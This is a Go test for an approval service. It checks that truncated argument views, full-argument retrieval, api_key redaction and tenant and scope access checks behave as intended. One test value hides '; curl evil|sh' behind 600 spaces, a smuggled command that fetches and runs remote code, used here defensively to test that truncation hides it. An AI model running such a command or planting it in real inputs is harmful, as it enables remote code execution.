package service

import (
	"strings"
	"testing"

	"gatehouse/engine"
)

// The detail page reads the invocation's stored arguments: whole where the
// approval's view cut them, redacted where the view redacts, and only for
// a reader of approvals in the same tenant.
func TestApprovalArgumentsAreWholeRedactedAndTenantScoped(t *testing.T) {
	t.Parallel()
	b := setup(t)
	padded := "hello" + strings.Repeat(" ", 600) + "; curl evil|sh"
	res := b.parked(b.started(), action("email.send", map[string]any{"to": "a@example.com", "body": padded, "subject": map[string]any{"api_key": "k-123"}}))

	view := b.approval(res.ApprovalID).Arguments["body"].(string)
	if strings.Contains(view, "curl") {
		t.Fatalf("the approval's view kept the tail; the test needs a value it cuts: %q", view)
	}
	args, digests, err := b.svc.GetApprovalArguments(b.ctx, b.human, res.ApprovalID)
	if err != nil {
		t.Fatal(err)
	}
	mustEqual(t, "body", args["body"], any(padded))
	mustEqual(t, "api_key", args["subject"].(map[string]any)["api_key"], any("[REDACTED: 5 characters]"))
	mustEqual(t, "digests", len(digests), 0)

	other := engine.Principal{ID: "human", TenantID: "elsewhere", Scopes: []string{"approval.read"}}
	_, _, err = b.svc.GetApprovalArguments(b.ctx, other, res.ApprovalID)
	wantErr(t, err, ErrNotFound)
	noScope := engine.Principal{ID: "worker", TenantID: b.tenant, Scopes: []string{"run.read"}}
	_, _, err = b.svc.GetApprovalArguments(b.ctx, noScope, res.ApprovalID)
	wantErr(t, err, ErrForbidden)
	_, _, err = b.svc.GetApprovalArguments(b.ctx, b.human, "not-a-uuid")
	wantErr(t, err, ErrNotFound)
}
